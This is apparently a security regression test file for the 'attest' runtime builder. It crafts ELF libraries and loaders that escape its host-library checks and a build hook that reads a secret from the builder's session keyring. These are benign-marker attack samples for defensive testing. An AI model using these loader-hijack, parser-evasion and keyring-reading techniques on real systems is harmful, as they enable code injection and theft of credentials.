"""Attack review of the interpreter closure (b092417): ELF files of a locked wheel that load host files nobody recorded.

The claims: "every ELF file of the image must search only inside it: an absolute ... search-path
entry ... fails the build (UNSAFE_STEP_OUTPUT)", and the image's interpreter runs only image bytes
plus the host libraries recorded by path and SHA-256 (re-hashed before every use). Each test builds
a real runtime whose locked ``libdep`` wheel carries one crafted ELF file, then (when the build
accepts it) plants the file the ELF names at a place any user can write, runs the image through
``attest exec`` and shows the planted code running. Each asserts the secure behaviour, so it fails
while the attack works. They need gcc to make the ELF files.
"""

from __future__ import annotations

import shutil
import struct
import subprocess
from pathlib import Path

import pytest
from support.build import Project, make_wheel, pylock_text

from attest.builder import Sandbox, build_runtime, fetch, load_lock, load_recipe
from attest.builder._elf import read_elf
from attest.errors import AttestError
from attest.freeze import run_from_images

needs_gcc = pytest.mark.skipif(shutil.which("gcc") is None, reason="gcc makes the crafted ELF files")

# A constructor that leaves a mark: it runs when the loader maps the library (or starts the program).
_EVIL_LIB = r"""
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void planted(void) {
    int fd = open(MARK, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { write(fd, "planted code ran\n", 17); close(fd); }
}
"""
# A program loader of its own (PT_INTERP): no libc, raw system calls, leaves the mark and exits 0.
_EVIL_LOADER = r"""
static long sc(long n, long a, long b, long c) {
    long r; __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r;
}
void _start(void) {
    static const char path[] = MARK, text[] = "planted loader ran\n";
    long fd = sc(2, (long)path, 01 | 0100 | 01000, 0644);
    sc(1, fd, (long)text, sizeof text - 1); sc(60, 0, 0, 0); for (;;) {}
}
"""


def _gcc(tmp: Path, name: str, source: str, *args: str) -> Path:
    src = tmp / f"{name}.c"
    src.write_text(source)
    out = tmp / name
    subprocess.run(["gcc", *args, "-o", str(out), str(src)], check=True, capture_output=True)
    return out


def _hide_from_the_reader(data: bytes) -> bytes:
    """``data`` with its PT_GNU_STACK's file offset far past the end: glibc ignores it, attest's reader refuses the file."""
    out = bytearray(data)
    phoff, = struct.unpack_from("<Q", out, 0x20)
    phentsize, phnum = struct.unpack_from("<HH", out, 0x36)
    for i in range(phnum):
        at = phoff + i * phentsize
        if struct.unpack_from("<I", out, at)[0] == 0x6474E551:  # PT_GNU_STACK
            struct.pack_into("<Q", out, at + 8, 1 << 40)
            return bytes(out)
    raise AssertionError("no PT_GNU_STACK to move")


def _lock_with(project: Project, files: dict[str, bytes]) -> None:
    """Rewrite the project's lock: ``libdep`` 1.2 as before plus ``files``."""
    base = {"libdep/__init__.py": b"VALUE = 42\ndef hello():\n    print('hello from libdep', VALUE)\n",
            "libdep/data.txt": b"package data\n",
            "libdep-1.2.data/data/share/libdep/notes.txt": b"a data file\n",
            "libdep-1.2.data/scripts/libdep-script": b"#!python\nimport libdep\nprint('script', libdep.VALUE)\n"}
    libdep = make_wheel(project.wheels, "libdep", "1.2", {**base, **files}, scripts={"libdep-hello": "libdep:hello"})
    tiny = next(project.wheels.glob("tinybackend-*.whl"))
    project.lock.write_text(pylock_text([("tinybackend", "1.0", tiny), ("libdep", "1.2", libdep)], project.wheels))
    recipe = load_recipe(project.recipe)
    fetch(load_lock(recipe.lock_path), project.cache, lock_path=recipe.lock_path)


def _build(project: Project) -> object | AttestError:
    recipe = load_recipe(project.recipe)
    try:
        return build_runtime(recipe, project.sha, str(project.store), str(project.cache), Sandbox.establish(allow_unisolated_network=False))
    except AttestError as e:
        return e


@needs_gcc
def test_attack_an_extension_the_elf_reader_cannot_read_keeps_its_absolute_runpath(project: Project, tmp_path: Path) -> None:
    """An ELF file attest's reader refuses (one program header's offset past the end, which glibc never reads) is skipped
    by host_closure ("not loadable by this loader"): neither its RUNPATH checked nor its libraries listed. glibc loads
    it, and searches its absolute RUNPATH first."""
    work = tmp_path / "elf"
    work.mkdir()
    evil_dir = tmp_path / "anyone-can-write-here"
    mark = tmp_path / "planted-ran"
    native = _gcc(work, "native.so", "int libdep_native(void) { return 42; }\n", "-shared", "-fPIC", "-Wl,--no-as-needed",
                  f"-Wl,-rpath,{evil_dir}", "-lanl")
    data = _hide_from_the_reader(native.read_bytes())
    # The reader now checks only the segments it reads, as the loader does: it sees the RUNPATH glibc sees.
    assert [e.value for e in read_elf(data).search] == [str(evil_dir)]
    _lock_with(project, {"libdep/_native.so": data})
    built = _build(project)
    if isinstance(built, AttestError):
        return  # refused: the secure outcome (UNSAFE_STEP_OUTPUT, or any refusal of an ELF file it cannot vouch for)
    # Accepted. After the build, someone plants the soname in the directory the RUNPATH names.
    evil_dir.mkdir()
    _gcc(evil_dir, "libanl.so.1", _EVIL_LIB, "-shared", "-fPIC", f"-DMARK=\"{mark}\"")
    image = built.inventory.identity  # type: ignore[attr-defined]
    rc = run_from_images(str(project.store), {"RUNTIME": image},
                         ["$ATTEST_IMAGE_RUNTIME/bin/python", "-I", "-c", "import libdep._native"])
    pytest.fail(f"the build accepted an ELF file with RUNPATH {evil_dir} (outside the image), and attest exec ran the image "
                f"(rc {rc}); planted library ran: {mark.exists()}")


@needs_gcc
def test_attack_an_executable_whose_program_loader_is_outside_the_image(project: Project, tmp_path: Path) -> None:
    """An executable of the image whose PT_INTERP names a path outside it: `ld.so --list` answers with its own loader
    ("/x/ld.so => /lib64/ld-linux-x86-64.so.2"), which is what host_closure records; the kernel starts the program through
    the named file, which nothing records or re-hashes."""
    work = tmp_path / "elf"
    work.mkdir()
    loader = tmp_path / "anyone-can-write-here" / "ld.so"
    mark = tmp_path / "planted-ran"
    helper = _gcc(work, "helper", "int main(void) { return 0; }\n", f"-Wl,--dynamic-linker={loader}")
    assert read_elf(helper.read_bytes()).interpreter == str(loader)
    _lock_with(project, {"libdep-1.2.data/scripts/libdep-helper": helper.read_bytes()})
    built = _build(project)
    if isinstance(built, AttestError):
        return  # refused: the secure outcome
    loader.parent.mkdir()
    _gcc(loader.parent, "ld.so", _EVIL_LOADER, "-static-pie", "-nostdlib", "-fPIE", "-O1", f"-DMARK=\"{mark}\"")
    image = built.inventory.identity  # type: ignore[attr-defined]
    rc = run_from_images(str(project.store), {"RUNTIME": image}, ["$ATTEST_IMAGE_RUNTIME/bin/libdep-helper"])
    pytest.fail(f"the build accepted an executable whose loader is {loader} (outside the image, never recorded), and attest "
                f"exec ran it (rc {rc}); planted loader ran: {mark.exists()}")


@needs_gcc
def test_attack_a_recorded_host_library_anyone_can_write_is_swapped_after_its_re_hash(project: Project, tmp_path: Path) -> None:
    """An extension whose DT_NEEDED is an absolute path to a file a non-root user can write: host_closure records it
    (path + SHA-256) like libc, and attest exec re-hashes it before the command starts. The docs' stated gap ("a library
    replaced between that check and the loader's open: only root can write /usr/lib") does not hold for it: nothing
    requires a recorded host library to be root's alone. Whoever owns it swaps it after the re-hash (here: in the
    `before` hook, which attest exec calls after the re-hash and before the command) and its code runs in the image's
    interpreter at import."""
    work = tmp_path / "elf"
    work.mkdir()
    shared = tmp_path / "writable-by-anyone"
    shared.mkdir(mode=0o777)
    shared.chmod(0o1777)
    plugin = shared / "libplugin.so"
    mark = tmp_path / "planted-ran"
    _gcc(shared, "libplugin.so", "int plugin(void) { return 1; }\n", "-shared", "-fPIC")
    plugin.chmod(0o666)
    native = _gcc(work, "native.so", "int libdep_native(void) { return 42; }\n", "-shared", "-fPIC", "-Wl,--no-as-needed", str(plugin))
    assert str(plugin) in read_elf(native.read_bytes()).needed
    _lock_with(project, {"libdep/_native.so": native.read_bytes()})
    built = _build(project)
    if isinstance(built, AttestError):
        return  # refused: a host library that is not root's alone is never recorded as trusted
    evil = _gcc(work, "evil.so", _EVIL_LIB, "-shared", "-fPIC", f"-DMARK=\"{mark}\"")

    def swap(images: object) -> None:  # after attest exec re-hashed every recorded host library, before the command
        plugin.write_bytes(evil.read_bytes())

    image = built.inventory.identity  # type: ignore[attr-defined]
    try:
        rc: object = run_from_images(str(project.store), {"RUNTIME": image},
                                     ["$ATTEST_IMAGE_RUNTIME/bin/python", "-I", "-c", "import libdep._native"], before=swap)
    except AttestError as e:
        rc = e
    assert not mark.exists(), (f"the runtime recorded {plugin} (mode 0666, in a 1777 directory) as a host library; swapped after "
                               f"the re-hash, its code ran in the image's interpreter (exec: {rc})")


# -- a build step holds the builder's session keyring ----------------------------------------------------------------------

_HOOK_READS_KEYRING = """
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
key = libc.syscall(250, 10, -3, b"user", b"attest-attack-secret", 0)  # KEYCTL_SEARCH the session keyring
buf = ctypes.create_string_buffer(4096)
n = libc.syscall(250, 11, ctypes.c_long(key), buf, 4096) if key > 0 else -1  # KEYCTL_READ
with open(os.path.join("toolchain", "_hostile.json"), "w") as f:
    json.dump({"uid": os.getuid(), "keyring": buf.raw[:n].decode("latin-1") if n > 0 else "errno %d" % ctypes.get_errno()}, f)
"""

_BUILD_WITH_SECRET_IN_KEYRING = r"""
import ctypes, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if libc.syscall(250, 1, b"attest-attack-session") < 0:  # KEYCTL_JOIN_SESSION_KEYRING: a fresh one, the host's untouched
    sys.exit("cannot join a session keyring")
secret = os.environ.pop("ATK_SECRET").encode()
if libc.syscall(248, b"user", b"attest-attack-secret", secret, len(secret), -3) < 0:  # add_key to @s
    sys.exit("cannot add the key")
from attest.builder import Sandbox, build_runtime, fetch, load_lock, load_recipe
recipe_path, sha, store, cache = sys.argv[1:5]
recipe = load_recipe(recipe_path)
fetch(load_lock(recipe.lock_path), cache, lock_path=recipe.lock_path)
result = build_runtime(recipe, sha, store, cache, Sandbox.establish(allow_unisolated_network=False))
print(json.dumps({"store_path": result.store_path}))
"""


@pytest.mark.skipif(__import__("os").uname().machine != "x86_64", reason="the hook calls keyctl by its x86-64 syscall number")
def test_attack_a_hostile_build_step_reads_the_builders_session_keyring(project: Project, tmp_path: Path) -> None:
    """A build step (the toolchain commit's own build code, run by its backend: the attacker of THREATS G) runs as a uid of
    its own in new namespaces, yet keeps the builder's session keyring: it reads a secret the builder keeps there and
    ships it inside the runtime image, which the builder then signs and publishes."""
    import json
    import os
    import secrets
    import sys
    import textwrap

    from support.build import make_toolchain_repo

    sha = make_toolchain_repo(project.repo, build_hook=textwrap.dedent(_HOOK_READS_KEYRING))
    secret = "attest-builder-keyring-secret-" + secrets.token_hex(12)
    proc = subprocess.run([sys.executable, "-c", _BUILD_WITH_SECRET_IN_KEYRING, str(project.recipe), sha, str(project.store),
                           str(project.cache)], capture_output=True, text=True, env={**os.environ, "ATK_SECRET": secret},
                          cwd=Path(__file__).resolve().parents[2], timeout=600, check=False)
    assert proc.returncode == 0, proc.stderr[-3000:]
    root = Path(json.loads(proc.stdout.strip().splitlines()[-1])["store_path"])
    report = json.loads(next(root.glob("lib/python*/*-packages/toolchain/_hostile.json")).read_text())
    assert report["uid"] != os.getuid() or os.getuid() != 0, report
    assert secret not in json.dumps(report), (f"a confined build step (uid {report['uid']}) read the builder's session keyring "
                                              f"and the secret is in the built runtime image {root}: {report}")
